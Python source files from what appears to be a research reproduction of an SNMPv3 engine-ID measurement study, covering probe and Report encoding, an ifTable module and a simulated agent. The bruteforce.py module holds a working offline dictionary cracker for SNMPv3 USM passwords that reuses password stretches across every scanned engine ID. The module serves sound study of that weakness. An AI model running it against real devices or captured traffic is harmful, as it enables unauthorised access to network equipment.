        request_id=msg_id if request_id is None else request_id,
    )
    return SnmpV3Message(
        msg_id=msg_id,
        flags=constants.FLAG_REPORTABLE,
        scoped_pdu=ScopedPdu(context_engine_id=b"", context_name=b"", pdu=pdu),
    )


# Constant fragments of the discovery probe.  Everything except the two
# msg_id/request_id INTEGERs is identical across probes, so the sharded
# executor's hot loop can assemble the wire bytes from four joins instead
# of building and encoding the full message object graph per target.
_PROBE_VERSION = ber.encode_integer(constants.VERSION_3)
_PROBE_GLOBAL_TAIL = (
    ber.encode_integer(constants.DEFAULT_MAX_SIZE)
    + ber.encode_octet_string(bytes([constants.FLAG_REPORTABLE]))
    + ber.encode_integer(constants.SECURITY_MODEL_USM)
)
_PROBE_SECURITY = ber.encode_octet_string(UsmSecurityParameters().encode())
_PROBE_EMPTY_OCTETS = ber.encode_octet_string(b"")
_PROBE_PDU_TAIL = (
    ber.encode_integer(0) + ber.encode_integer(0) + ber.encode_sequence()
)


def encode_discovery_probe(msg_id: int, request_id: "int | None" = None) -> bytes:
    """Encode the Figure 2 probe directly to wire bytes.

    Byte-identical to ``build_discovery_probe(msg_id).encode()`` but an
    order of magnitude cheaper — the scan executor calls this once per
    target.
    """
    msg_id_tlv = ber.encode_integer(msg_id)
    request_tlv = (
        msg_id_tlv if request_id is None else ber.encode_integer(request_id)
    )
    pdu = ber.encode_tlv(
        constants.TAG_GET_REQUEST, request_tlv + _PROBE_PDU_TAIL
    )
    scoped_pdu = ber.encode_sequence(
        _PROBE_EMPTY_OCTETS, _PROBE_EMPTY_OCTETS, pdu
    )
    global_data = ber.encode_sequence(msg_id_tlv + _PROBE_GLOBAL_TAIL)
    return ber.encode_sequence(
        _PROBE_VERSION, global_data, _PROBE_SECURITY, scoped_pdu
    )


class DiscoveryProbeTemplate:
    """Probe-side counterpart of :class:`DiscoveryReportTemplate`.

    Every discovery probe the scanner sends is identical except for the
    msg_id/request_id INTEGER, which appears twice (the executor always
    uses ``request_id == msg_id``).  For a given INTEGER TLV width the
    rest of the packet — including every enclosing length octet — is a
    fixed three-fragment frame ``prefix | tlv | mid | tlv | tail``.  The
    template derives those fragments analytically per width, verifies
    them against :func:`encode_discovery_probe` once, then renders whole
    windows of probes with a single join per probe.

    Instances are cheap and unshared: the sharded executor builds one per
    shard run, so fork-pool workers never mutate common state.
    """

    __slots__ = ("_frames",)

    def __init__(self) -> None:
        self._frames: "dict[int, tuple[bytes, bytes, bytes]]" = {}

    def _build_frame(
        self, msg_id: int, tlv: bytes
    ) -> "tuple[bytes, bytes, bytes]":
        """Derive and self-verify the frame for ``tlv``'s width class."""
        width = len(tlv)
        pdu_len = width + len(_PROBE_PDU_TAIL)
        pdu_header = bytes([constants.TAG_GET_REQUEST]) + ber.encode_length(pdu_len)
        scoped_len = 2 * len(_PROBE_EMPTY_OCTETS) + len(pdu_header) + pdu_len
        scoped_header = bytes([ber.TAG_SEQUENCE]) + ber.encode_length(scoped_len)
        global_len = width + len(_PROBE_GLOBAL_TAIL)
        global_header = bytes([ber.TAG_SEQUENCE]) + ber.encode_length(global_len)
        message_len = (
            len(_PROBE_VERSION)
            + len(global_header)
            + global_len
            + len(_PROBE_SECURITY)
            + len(scoped_header)
            + scoped_len
        )
        prefix = (
            bytes([ber.TAG_SEQUENCE])
            + ber.encode_length(message_len)
            + _PROBE_VERSION
            + global_header
        )
        mid = (
            _PROBE_GLOBAL_TAIL
            + _PROBE_SECURITY
            + scoped_header
            + _PROBE_EMPTY_OCTETS
            + _PROBE_EMPTY_OCTETS
            + pdu_header
        )
        frame = (prefix, mid, _PROBE_PDU_TAIL)
        rendered = b"".join((prefix, tlv, mid, tlv, _PROBE_PDU_TAIL))
        if rendered != encode_discovery_probe(msg_id):
            raise AssertionError(
                f"probe template drifted from encode_discovery_probe "
                f"for INTEGER width {width}"
            )
        self._frames[width] = frame
        return frame

    def render(self, msg_id: int) -> bytes:
        """Encode one probe; byte-identical to ``encode_discovery_probe``."""
        tlv = ber.encode_integer(msg_id)
        frame = self._frames.get(len(tlv))
        if frame is None:
            frame = self._build_frame(msg_id, tlv)
        prefix, mid, tail = frame
        return b"".join((prefix, tlv, mid, tlv, tail))

    def render_batch(self, msg_ids: "Sequence[int]") -> "list[bytes]":
        """Encode a window of probes in one vectorized pass."""
        frames = self._frames
        tlvs = ber.encode_integer_batch(msg_ids)
        join = b"".join
        out: "list[bytes]" = []
        append = out.append
        for index, tlv in enumerate(tlvs):
            frame = frames.get(len(tlv))
            if frame is None:
                frame = self._build_frame(msg_ids[index], tlv)
            append(join((frame[0], tlv, frame[1], tlv, frame[2])))
        return out


def match_discovery_probe(payload: bytes) -> "tuple[int, int] | None":
    """Structurally match a Figure 2 discovery probe without a full decode.

    Returns ``(msg_id, request_id)`` when ``payload`` is byte-for-byte an
    :func:`encode_discovery_probe` output — the only SNMPv3 packet the
    scanner ever sends — and ``None`` otherwise.  Agents use a successful
    match to take the cached report-template fast path; any mismatch
    (hand-crafted packets, corrupted probes) falls back to the full
    decoder, so observable behaviour never diverges.
    """
    try:
        content, end = ber.decode_sequence(payload, 0)
        if end != len(payload) or not content.startswith(_PROBE_VERSION):
            return None
        pos = len(_PROBE_VERSION)
        global_data, pos = ber.decode_sequence(content, pos)
        msg_id, gpos = ber.decode_integer(global_data, 0)
        if global_data[gpos:] != _PROBE_GLOBAL_TAIL:
            return None
        if content[pos : pos + len(_PROBE_SECURITY)] != _PROBE_SECURITY:
            return None
        pos += len(_PROBE_SECURITY)
        scoped, spos = ber.decode_sequence(content, pos)
        if spos != len(content):
            return None
        contexts = _PROBE_EMPTY_OCTETS + _PROBE_EMPTY_OCTETS
        if not scoped.startswith(contexts):
            return None
        pdu_body, ppos = ber.expect_tag(
            scoped, len(contexts), constants.TAG_GET_REQUEST, "GetRequest"
        )
        if ppos != len(scoped):
            return None
        request_id, rpos = ber.decode_integer(pdu_body, 0)
        if pdu_body[rpos:] != _PROBE_PDU_TAIL:
            return None
    except ber.BerDecodeError:
        return None
    return msg_id, request_id


# Constant fragments of the discovery Report reply (Figure 3).  The reply's
# global data differs from the probe's in one byte (msgFlags 0x00 — not
# reportable, no auth) and its PDU is a Report carrying the
# usmStatsUnknownEngineIDs counter.
_REPORT_GLOBAL_TAIL = (
    ber.encode_integer(constants.DEFAULT_MAX_SIZE)
    + ber.encode_octet_string(b"\x00")
    + ber.encode_integer(constants.SECURITY_MODEL_USM)
)
_REPORT_SECURITY_SUFFIX = _PROBE_EMPTY_OCTETS * 3
_REPORT_COUNTER_OID = ber.encode_oid(constants.OID_USM_STATS_UNKNOWN_ENGINE_IDS)
_REPORT_ERROR_FIELDS = ber.encode_integer(0) + ber.encode_integer(0)


# Shared frame cache for discovery Report rendering.  A frame is keyed
# by the *byte widths* of the six variable TLVs (engine-id OCTET STRING,
# boots / msg-id / request-id / engine-time INTEGERs, Counter32): for one
# width tuple every enclosing length octet is invariant across ALL
# engines, so the cache warms once per shape for an entire topology
# instead of once per (engine, boots) template.  Values are pure
# functions of the key, so sharing across templates cannot leak state.
_REPORT_FRAMES: "dict[tuple[int, int, int, int, int, int], tuple[bytes, bytes, bytes, bytes, bytes]]" = {}


class DiscoveryReportTemplate:
    """Pre-encoded invariant fragments of one agent's discovery Report.

    An engine's ID and boots counter are stable between reboots, so an
    agent answering an Internet-wide scan would re-encode the exact same
    security and scoped-PDU prefixes millions of times.  The template
    freezes those fragments once per ``(engine ID, boots)`` pair and
    :meth:`render` splices in the four per-probe integers (msg id,
    request id, engine time, usmStats counter).  Output is byte-identical
    to the full ``SnmpV3Message.encode`` path — asserted by the property
    test in ``tests/snmp/test_report_fast_path.py``.
    """

    __slots__ = (
        "engine_id",
        "engine_boots",
        "_security_prefix",
        "_scoped_prefix",
        "_eid_os",
        "_boots_tlv",
    )

    def __init__(self, engine_id: bytes, engine_boots: int) -> None:
        self.engine_id = engine_id
        self.engine_boots = engine_boots
        self._eid_os = ber.encode_octet_string(engine_id)
        self._boots_tlv = ber.encode_integer(engine_boots)
        self._security_prefix = self._eid_os + self._boots_tlv
        self._scoped_prefix = self._eid_os + _PROBE_EMPTY_OCTETS

    def _render_slow(
        self, *, msg_id: int, request_id: int, engine_time: int, counter_value: int
    ) -> bytes:
        """Reference encoder: the full bottom-up BER construction."""
        security = ber.encode_octet_string(
            ber.encode_sequence(
                self._security_prefix
                + ber.encode_integer(engine_time)
                + _REPORT_SECURITY_SUFFIX
            )
        )
        varbinds = ber.encode_sequence(
            ber.encode_sequence(
                _REPORT_COUNTER_OID
                + ber.encode_unsigned(counter_value, ber.TAG_COUNTER32)
            )
        )
        report_pdu = ber.encode_tlv(
            constants.TAG_REPORT,
            ber.encode_integer(request_id) + _REPORT_ERROR_FIELDS + varbinds,
        )
        global_data = ber.encode_sequence(
            ber.encode_integer(msg_id) + _REPORT_GLOBAL_TAIL
        )
        return ber.encode_sequence(
            _PROBE_VERSION,
            global_data,
            security,
            ber.encode_sequence(self._scoped_prefix + report_pdu),
        )

    def _build_frame(
        self,
        key: "tuple[int, int, int, int, int, int]",
        reference: bytes,
        parts: "tuple[bytes, bytes, bytes, bytes]",
    ) -> "tuple[bytes, bytes, bytes, bytes, bytes]":
        """Derive and self-verify the shared frame for one width tuple."""
        eid_len, boots_len, mlen, rlen, tlen, clen = key
        vb_inner_len = len(_REPORT_COUNTER_OID) + clen
        vb_inner_hdr = bytes([ber.TAG_SEQUENCE]) + ber.encode_length(vb_inner_len)
        varbinds_len = len(vb_inner_hdr) + vb_inner_len
        varbinds_hdr = bytes([ber.TAG_SEQUENCE]) + ber.encode_length(varbinds_len)
        pdu_len = rlen + len(_REPORT_ERROR_FIELDS) + len(varbinds_hdr) + varbinds_len
        pdu_hdr = bytes([constants.TAG_REPORT]) + ber.encode_length(pdu_len)
        scoped_len = (
            eid_len + len(_PROBE_EMPTY_OCTETS) + len(pdu_hdr) + pdu_len
        )
        scoped_hdr = bytes([ber.TAG_SEQUENCE]) + ber.encode_length(scoped_len)
        sec_seq_len = eid_len + boots_len + tlen + len(_REPORT_SECURITY_SUFFIX)
        sec_seq_hdr = bytes([ber.TAG_SEQUENCE]) + ber.encode_length(sec_seq_len)
        sec_os_len = len(sec_seq_hdr) + sec_seq_len
        sec_os_hdr = bytes([ber.TAG_OCTET_STRING]) + ber.encode_length(sec_os_len)
        global_len = mlen + len(_REPORT_GLOBAL_TAIL)
        global_hdr = bytes([ber.TAG_SEQUENCE]) + ber.encode_length(global_len)
        message_len = (
            len(_PROBE_VERSION)
            + len(global_hdr) + global_len
            + len(sec_os_hdr) + sec_os_len
            + len(scoped_hdr) + scoped_len
        )
        frame = (
            bytes([ber.TAG_SEQUENCE])
            + ber.encode_length(message_len)
            + _PROBE_VERSION
            + global_hdr,
            _REPORT_GLOBAL_TAIL + sec_os_hdr + sec_seq_hdr,
            _REPORT_SECURITY_SUFFIX + scoped_hdr,
            _PROBE_EMPTY_OCTETS + pdu_hdr,
            _REPORT_ERROR_FIELDS + varbinds_hdr + vb_inner_hdr + _REPORT_COUNTER_OID,
        )
        m, r, t, c = parts
        rendered = b"".join((
            frame[0], m, frame[1], self._eid_os, self._boots_tlv, t,
            frame[2], self._eid_os, frame[3], r, frame[4], c,
        ))
        if rendered != reference:
            raise AssertionError(
                f"report template frame drifted from the reference encoder "
                f"for widths {key}"
            )
        # Safe across fork-pool workers: a pure width-keyed cache whose
        # entries are self-verified against the reference encoder above,
        # so independently-warmed caches can never disagree on bytes.
        _REPORT_FRAMES[key] = frame  # repro-lint: disable=DET002
        return frame

    def render(
        self, *, msg_id: int, request_id: int, engine_time: int, counter_value: int
    ) -> bytes:
        """Encode the full Report reply for one probe."""
        m = ber.encode_integer(msg_id)
        r = ber.encode_integer(request_id)
        t = ber.encode_integer(engine_time)
        c = ber.encode_unsigned(counter_value, ber.TAG_COUNTER32)
        eid_os = self._eid_os
        boots_tlv = self._boots_tlv
        key = (len(eid_os), len(boots_tlv), len(m), len(r), len(t), len(c))
        frame = _REPORT_FRAMES.get(key)
        if frame is None:
            reference = self._render_slow(
                msg_id=msg_id, request_id=request_id,
                engine_time=engine_time, counter_value=counter_value,
            )
            frame = self._build_frame(key, reference, (m, r, t, c))
        return b"".join((
            frame[0], m, frame[1], eid_os, boots_tlv, t,
            frame[2], eid_os, frame[3], r, frame[4], c,
        ))


@dataclass(frozen=True)
class DiscoveryReply:
    """The fields of Figure 3 that the measurement pipeline consumes."""

    engine_id: bytes
    engine_boots: int
    engine_time: int
    msg_id: int


def parse_discovery_response(payload: bytes) -> DiscoveryReply:
    """Parse an agent's Report reply to a discovery probe.

    Raises :class:`ber.BerDecodeError` on malformed payloads; the scanner
    records those as invalid responses (they feed the "missing engine ID"
    filter of §4.4).
    """
    message = SnmpV3Message.decode(payload)
    return DiscoveryReply(
        engine_id=message.security.engine_id,
        engine_boots=message.security.engine_boots,
        engine_time=message.security.engine_time,
        msg_id=message.msg_id,
    )


def _tlv_bounds(
    buf: bytes, offset: int, tag: int, limit: int
) -> "tuple[int, int] | None":
    """``(content_start, content_end)`` of the TLV at ``offset``, or ``None``.

    Conservative by design: only short-form and minimal one/two-octet
    long-form lengths are recognized, and the TLV must fit inside
    ``limit``.  Anything unusual returns ``None`` and the caller falls
    back to the full decoder — over-rejection is always safe here.
    """
    if offset + 2 > limit or buf[offset] != tag:
        return None
    length = buf[offset + 1]
    if length < 0x80:
        start = offset + 2
    elif length == 0x81:
        if offset + 3 > limit:
            return None
        length = buf[offset + 2]
        if length < 0x80:
            return None
        start = offset + 3
    elif length == 0x82:
        if offset + 4 > limit:
            return None
        length = (buf[offset + 2] << 8) | buf[offset + 3]
        if length < 0x100:
            return None
        start = offset + 4
    else:
        return None
    end = start + length
    if end > limit:
        return None
    return start, end


def _minimal_int(content: bytes) -> bool:
    """True when ``content`` is a valid minimal INTEGER body (the same
    acceptance as :func:`ber.decode_integer_content`)."""
    if not content:
        return False
    if len(content) > 1 and (
        (content[0] == 0x00 and not content[1] & 0x80)
        or (content[0] == 0xFF and content[1] & 0x80)
    ):
        return False
    return True


def match_discovery_report(payload: bytes) -> "DiscoveryReply | None":
    """Structurally match a template-shaped discovery Report reply.

    The reply-side twin of :func:`match_discovery_probe`: returns the
    :class:`DiscoveryReply` when ``payload`` has exactly the
    :class:`DiscoveryReportTemplate` shape, ``None`` otherwise.  The match
    is *stricter* than :func:`parse_discovery_response` — a successful
    match always agrees with the full decoder, and every rejection (other
    engines' messages, fault-fabric mutations) falls back to it — so the
    batch decode stage stays byte-identical to the legacy per-probe loop
    while skipping the message-object graph for the overwhelmingly common
    unmutated reply.

    This is the scan's single hottest parse (once per reply), so it walks
    TLV header offsets on ``payload`` directly instead of layering the
    :mod:`repro.asn1.ber` helpers, which would copy every nested body.
    """
    size = len(payload)
    outer = _tlv_bounds(payload, 0, ber.TAG_SEQUENCE, size)
    if outer is None or outer[1] != size:
        return None
    pos, end = outer
    version_end = pos + len(_PROBE_VERSION)
    if payload[pos:version_end] != _PROBE_VERSION:
        return None
    global_bounds = _tlv_bounds(payload, version_end, ber.TAG_SEQUENCE, end)
    if global_bounds is None:
        return None
    gpos, gend = global_bounds
    msg_bounds = _tlv_bounds(payload, gpos, ber.TAG_INTEGER, gend)
    if msg_bounds is None:
        return None
    msg_content = payload[msg_bounds[0] : msg_bounds[1]]
    if not _minimal_int(msg_content):
        return None
    if payload[msg_bounds[1] : gend] != _REPORT_GLOBAL_TAIL:
        return None
    sec_os = _tlv_bounds(payload, gend, ber.TAG_OCTET_STRING, end)
    if sec_os is None:
        return None
    sec_seq = _tlv_bounds(payload, sec_os[0], ber.TAG_SEQUENCE, sec_os[1])
    if sec_seq is None or sec_seq[1] != sec_os[1]:
        return None
    spos, send = sec_seq
    eid_bounds = _tlv_bounds(payload, spos, ber.TAG_OCTET_STRING, send)
    if eid_bounds is None:
        return None
    boots_bounds = _tlv_bounds(payload, eid_bounds[1], ber.TAG_INTEGER, send)
    if boots_bounds is None:
        return None
    boots_content = payload[boots_bounds[0] : boots_bounds[1]]
    if not _minimal_int(boots_content):
        return None
    time_bounds = _tlv_bounds(payload, boots_bounds[1], ber.TAG_INTEGER, send)
    if time_bounds is None:
        return None
    time_content = payload[time_bounds[0] : time_bounds[1]]
    if not _minimal_int(time_content):
        return None
    if payload[time_bounds[1] : send] != _REPORT_SECURITY_SUFFIX:
        return None
    scoped = _tlv_bounds(payload, sec_os[1], ber.TAG_SEQUENCE, end)
    if scoped is None or scoped[1] != end:
        return None
    zpos, zend = scoped
    context = _tlv_bounds(payload, zpos, ber.TAG_OCTET_STRING, zend)
    if context is None:
        return None
    name_end = context[1] + len(_PROBE_EMPTY_OCTETS)
    if payload[context[1] : name_end] != _PROBE_EMPTY_OCTETS:
        return None
    pdu = _tlv_bounds(payload, name_end, constants.TAG_REPORT, zend)
    if pdu is None or pdu[1] != zend:
        return None
    ppos, pend = pdu
    request_bounds = _tlv_bounds(payload, ppos, ber.TAG_INTEGER, pend)
    if request_bounds is None:
        return None
    if not _minimal_int(payload[request_bounds[0] : request_bounds[1]]):
        return None
    error_end = request_bounds[1] + len(_REPORT_ERROR_FIELDS)
    if payload[request_bounds[1] : error_end] != _REPORT_ERROR_FIELDS:
        return None
    varbinds = _tlv_bounds(payload, error_end, ber.TAG_SEQUENCE, pend)
    if varbinds is None or varbinds[1] != pend:
        return None
    varbind = _tlv_bounds(payload, varbinds[0], ber.TAG_SEQUENCE, varbinds[1])
    if varbind is None or varbind[1] != varbinds[1]:
        return None
    oid_end = varbind[0] + len(_REPORT_COUNTER_OID)
    if payload[varbind[0] : oid_end] != _REPORT_COUNTER_OID:
        return None
    counter = _tlv_bounds(payload, oid_end, ber.TAG_COUNTER32, varbind[1])
    if counter is None or counter[1] != varbind[1]:
        return None
    if not _minimal_int(payload[counter[0] : counter[1]]):
        return None
    msg_id = int.from_bytes(msg_content, "big", signed=True)
    engine_id = payload[eid_bounds[0] : eid_bounds[1]]
    engine_boots = int.from_bytes(boots_content, "big", signed=True)
    engine_time = int.from_bytes(time_content, "big", signed=True)
    return DiscoveryReply(
        engine_id=engine_id,
        engine_boots=engine_boots,
        engine_time=engine_time,
        msg_id=msg_id,
    )
