"""The interfaces table (ifTable, RFC 2863 subset).

The lab validation cross-checks the engine ID's MAC against the router's
interface inventory ("the MAC in the engine ID corresponds to the first
interface as reported by the router").  With management credentials, the
same inventory is available over SNMP: this module populates the classic
``ifTable`` columns — ifIndex, ifDescr, ifType, ifPhysAddress,
ifOperStatus — so an authenticated walk reproduces that cross-check
in-protocol.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.asn1.oid import Oid
from repro.net.mac import MacAddress
from repro.snmp.mib import Mib

#: ifTable column bases (1.3.6.1.2.1.2.2.1.<column>.<ifIndex>).
OID_IF_TABLE_ENTRY = Oid("1.3.6.1.2.1.2.2.1")
COLUMN_IF_INDEX = 1
COLUMN_IF_DESCR = 2
COLUMN_IF_TYPE = 3
COLUMN_IF_PHYS_ADDRESS = 6
COLUMN_IF_OPER_STATUS = 8

#: ifNumber (1.3.6.1.2.1.2.1.0).
OID_IF_NUMBER = Oid("1.3.6.1.2.1.2.1.0")

IF_TYPE_ETHERNET = 6
IF_OPER_UP = 1
IF_OPER_DOWN = 2


@dataclass(frozen=True)
class InterfaceEntry:
    """One row of the interfaces table."""

    index: int
    descr: str
    mac: "MacAddress | None"
    oper_up: bool = True


def column_oid(column: int, if_index: int) -> Oid:
    """The instance OID for one cell."""
    return OID_IF_TABLE_ENTRY.child(column, if_index)


def populate_if_table(mib: Mib, entries: "list[InterfaceEntry]") -> None:
    """Install ifNumber and the ifTable rows into a MIB."""
    mib.set(OID_IF_NUMBER, len(entries))
    for entry in entries:
        mib.set(column_oid(COLUMN_IF_INDEX, entry.index), entry.index)
        mib.set(column_oid(COLUMN_IF_DESCR, entry.index), entry.descr.encode())
        mib.set(column_oid(COLUMN_IF_TYPE, entry.index), IF_TYPE_ETHERNET)
        mib.set(
            column_oid(COLUMN_IF_PHYS_ADDRESS, entry.index),
            entry.mac.packed if entry.mac is not None else b"",
        )
        mib.set(
            column_oid(COLUMN_IF_OPER_STATUS, entry.index),
            IF_OPER_UP if entry.oper_up else IF_OPER_DOWN,
        )


def parse_if_table(rows: "list[tuple[Oid, object]]") -> dict[int, dict[int, object]]:
    """Group walked (oid, value) pairs back into {ifIndex: {column: value}}."""
    table: dict[int, dict[int, object]] = {}
    base_len = len(OID_IF_TABLE_ENTRY)
    for oid, value in rows:
        if not OID_IF_TABLE_ENTRY.is_prefix_of(oid) or len(oid) != base_len + 2:
            continue
        column, if_index = oid[base_len], oid[base_len + 1]
        table.setdefault(if_index, {})[column] = value
    return table
