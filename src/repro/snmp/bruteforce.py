"""Offline USM password recovery (§8, Thomas 2021).

The paper warns that "obtaining the persistent engine ID permits brute
force SNMPv3 password recovery attacks".  The mechanics:

1. the attacker learns the engine ID for free (discovery);
2. a single *authenticated* request/response is captured — or elicited:
   send any authenticated GET with a guessed user name; an agent with
   that user returns a ``wrongDigests`` Report, while a real message from
   a legitimate manager can be sniffed;
3. for each password guess: stretch (``password_to_key``), localize with
   the known engine ID, HMAC the captured message with its auth-params
   field zeroed, and compare against the captured MAC.  No further
   packets are sent — the attack is fully offline.

:class:`UsmBruteForcer` implements step 3 with a precomputation cache:
``Ku`` (the expensive 1 MB stretch) depends only on the password, so one
dictionary stretched once can be re-localized cheaply against *every*
engine ID collected by an Internet-wide scan — the reason a leaked
engine-ID corpus is more dangerous than any single disclosure.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterable

from repro.asn1.oid import Oid
from repro.snmp import constants, pdu as pdu_mod
from repro.snmp.messages import ScopedPdu, SnmpV3Message, UsmSecurityParameters
from repro.snmp.usm import (
    AuthProtocol,
    compute_mac,
    localize_key,
    localized_key_from_password,
    password_to_key,
)

_ZEROED_MAC = b"\x00" * 12


@dataclass(frozen=True)
class CapturedMessage:
    """An authenticated SNMPv3 message as sniffed off the wire."""

    raw: bytes
    engine_id: bytes
    user_name: bytes
    auth_params: bytes

    @classmethod
    def from_wire(cls, raw: bytes) -> "CapturedMessage":
        """Dissect a capture; raises ``BerDecodeError`` on non-v3 data and
        ``ValueError`` when the message carries no authentication."""
        message = SnmpV3Message.decode(raw)
        if len(message.security.auth_params) != len(_ZEROED_MAC):
            raise ValueError("captured message is not HMAC-authenticated")
        if not message.security.engine_id:
            raise ValueError("captured message carries no engine ID")
        return cls(
            raw=raw,
            engine_id=message.security.engine_id,
            user_name=message.security.user_name,
            auth_params=message.security.auth_params,
        )

    def zeroed(self) -> bytes:
        """The serialized message with the MAC field zero-filled, i.e. the
        exact byte string the HMAC was computed over."""
        return self.raw.replace(self.auth_params, _ZEROED_MAC, 1)


def forge_authenticated_get(
    engine_id: bytes,
    engine_boots: int,
    engine_time: int,
    user_name: bytes,
    password: str,
    protocol: AuthProtocol = AuthProtocol.HMAC_SHA1_96,
    oid: "Oid | None" = None,
    msg_id: int = 0x5EED,
) -> bytes:
    """Build the wire bytes of a legitimate manager's authenticated GET.

    The attacker's training data: exactly what a passive tap between a
    real NMS and the agent records.  Used by the tests and benchmarks to
    manufacture captures without standing up a full management station.
    """
    message = SnmpV3Message(
        msg_id=msg_id,
        flags=constants.FLAG_REPORTABLE | constants.FLAG_AUTH,
        security=UsmSecurityParameters(
            engine_id=engine_id,
            engine_boots=engine_boots,
            engine_time=engine_time,
            user_name=user_name,
            auth_params=_ZEROED_MAC,
        ),
        scoped_pdu=ScopedPdu(
            context_engine_id=engine_id,
            context_name=b"",
            pdu=pdu_mod.get_request(msg_id, oid or constants.OID_SYS_DESCR),
        ),
    )
    blob = message.encode()
    key = localized_key_from_password(password, engine_id, protocol)
    mac = compute_mac(key, blob, protocol)
    return blob.replace(_ZEROED_MAC, mac, 1)


@dataclass(frozen=True)
class CrackResult:
    """Outcome of a dictionary run."""

    password: "str | None"
    guesses_tried: int
    stretches_computed: int

    @property
    def cracked(self) -> bool:
        return self.password is not None


@dataclass
class UsmBruteForcer:
    """Offline dictionary attack with cross-engine stretch reuse."""

    protocol: AuthProtocol = AuthProtocol.HMAC_SHA1_96
    _stretch_cache: dict[str, bytes] = field(default_factory=dict, repr=False)

    def stretch(self, password: str) -> bytes:
        """``Ku`` for a guess — cached: one stretch serves every engine."""
        key = self._stretch_cache.get(password)
        if key is None:
            key = password_to_key(password, self.protocol)
            self._stretch_cache[password] = key
        return key

    def try_guess(self, capture: CapturedMessage, password: str) -> bool:
        """Check one guess against one capture."""
        localized = localize_key(self.stretch(password), capture.engine_id, self.protocol)
        expected = compute_mac(localized, capture.zeroed(), self.protocol)
        return expected == capture.auth_params

    def crack(self, capture: CapturedMessage, dictionary: Iterable[str]) -> CrackResult:
        """Run a dictionary against one capture."""
        cached_before = len(self._stretch_cache)
        tried = 0
        for guess in dictionary:
            tried += 1
            if self.try_guess(capture, guess):
                return CrackResult(
                    password=guess,
                    guesses_tried=tried,
                    stretches_computed=len(self._stretch_cache) - cached_before,
                )
        return CrackResult(
            password=None,
            guesses_tried=tried,
            stretches_computed=len(self._stretch_cache) - cached_before,
        )

    def crack_many(
        self, captures: "list[CapturedMessage]", dictionary: "list[str]"
    ) -> dict[bytes, CrackResult]:
        """Attack a corpus of captures with one dictionary.

        Demonstrates the amortization the paper warns about: the stretch
        cache is shared, so the marginal cost per additional engine is a
        cheap localization + HMAC, not a 1 MB digest.
        """
        return {capture.engine_id: self.crack(capture, dictionary) for capture in captures}

    @property
    def cache_size(self) -> int:
        return len(self._stretch_cache)
