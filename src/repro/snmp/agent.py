"""The SNMP agent: a stateful SNMP engine with vendor behaviour profiles.

Each simulated device runs one :class:`SnmpAgent`.  The agent implements
the three protocol personalities the paper's experiments need:

* **SNMPv3 discovery** — an incoming message with an empty
  ``msgAuthoritativeEngineID`` gets a Report PDU carrying the engine ID,
  boots and (possibly clock-skewed) engine time.  This is the unsolicited
  synchronization exchange of §2.2;
* **SNMPv3 authenticated GET** — for lab validation (§6.2.1): a request
  naming an unknown user yields a ``usmStatsUnknownUserNames`` Report
  (which *still* carries the engine ID, exactly the behaviour the paper
  observed on Cisco IOS); a correctly authenticated request is answered
  from the MIB;
* **SNMPv1/v2c community GET** — community-string checked, answered from
  the MIB.

Behaviour quirks found in the wild are modelled explicitly via
:class:`AgentBehavior`: the Cisco-style *v2c-implies-v3* default, the
shared-engine-ID firmware bug (CSCts87275), response amplification, zero
or future engine times, and malformed replies.
"""

from __future__ import annotations

from dataclasses import dataclass, field, replace

from repro.asn1 import ber
from repro.asn1.oid import Oid
from repro.compat import keyword_only_compat
from repro.net.packet import Datagram
from repro.snmp import constants, pdu as pdu_mod
from repro.snmp.engine_id import EngineId
from repro.snmp.messages import (
    CommunityMessage,
    DiscoveryReportTemplate,
    ScopedPdu,
    SnmpV3Message,
    UsmSecurityParameters,
    match_discovery_probe,
    peek_version,
)
from repro.snmp.mib import Mib
from repro.snmp.usm import (
    AuthProtocol,
    compute_mac,
    decrypt_scoped_pdu,
    encrypt_scoped_pdu,
    localized_key_from_password,
    privacy_key_from_password,
)

_ZEROED_MAC = b"\x00" * 12


@dataclass(frozen=True)
class UsmUser:
    """A configured USM user.

    ``priv_password`` upgrades the user to the authPriv security level
    (AES-128-CFB privacy per RFC 3826); without it the user operates at
    authNoPriv.
    """

    name: bytes
    auth_protocol: AuthProtocol
    password: str
    priv_password: "str | None" = None

    @property
    def has_privacy(self) -> bool:
        return self.priv_password is not None


@dataclass(frozen=True)
class AgentBehavior:
    """Vendor/implementation quirks, all off by default.

    ``amplification_count > 1`` reproduces the §8 observation of identical
    repeated replies.  ``report_zero_time`` models agents whose engine
    time/boots are always zero.  ``future_time_offset`` adds a constant to
    the reported engine time, pushing the derived last-reboot time before
    the epoch (the "engine time in the future" filter input).
    ``clock_skew`` is a relative drift rate applied to engine time; real
    routers keep it tiny, CPE/server clocks drift more.  ``malformed``
    makes the agent answer with a syntactically broken payload.
    ``v3_enabled_by_community`` reproduces the lab finding that merely
    configuring a v2c read community silently enables v3 discovery.

    The remaining knobs are *adversarial personalities* for hardening the
    scan path (they model broken firmware seen by Internet-wide scans):
    ``garbage_reports`` replaces every reply with deterministically
    garbled (non-BER) bytes; ``engine_id_pad_to`` pads (or truncates) the
    reported engine ID to a fixed length, producing oversized (> 32
    octets) or undersized (< 5 octets) identifiers; ``response_delay``
    stretches every reply by a fixed number of virtual seconds (a slow
    responder, tripping per-probe timeouts); ``reboot_after_handles``
    reboots the SNMP engine mid-scan after every N handled requests.
    """

    amplification_count: int = 1
    report_zero_time: bool = False
    report_empty_engine_id: bool = False
    future_time_offset: int = 0
    clock_skew: float = 0.0
    malformed: bool = False
    v2c_enabled: bool = True
    v3_enabled: bool = True
    v3_enabled_by_community: bool = False
    time_resolution: int = 1
    garbage_reports: bool = False
    engine_id_pad_to: int = 0
    response_delay: float = 0.0
    reboot_after_handles: int = 0


@keyword_only_compat(
    "engine_id", "boot_time", "engine_boots", "behavior", "communities",
    "users", "mib",
)
class SnmpAgent:
    """A single SNMP engine bound to one device.

    The agent is deliberately transport-agnostic: :meth:`handle` takes the
    raw UDP payload and the virtual receive time and returns reply
    payloads.  The simulated fabric adapts it to :class:`Datagram`.

    Arguments are keyword-only; the historical positional
    ``SnmpAgent(engine_id, boot_time, ...)`` form still works but emits
    a :class:`DeprecationWarning`.
    """

    def __init__(
        self,
        *,
        engine_id: "EngineId | None" = None,
        boot_time: float = 0.0,
        engine_boots: int = 1,
        behavior: "AgentBehavior | None" = None,
        communities: "tuple[bytes, ...]" = (),
        users: "tuple[UsmUser, ...]" = (),
        mib: "Mib | None" = None,
    ) -> None:
        if engine_id is None:
            raise TypeError("SnmpAgent requires an engine_id")
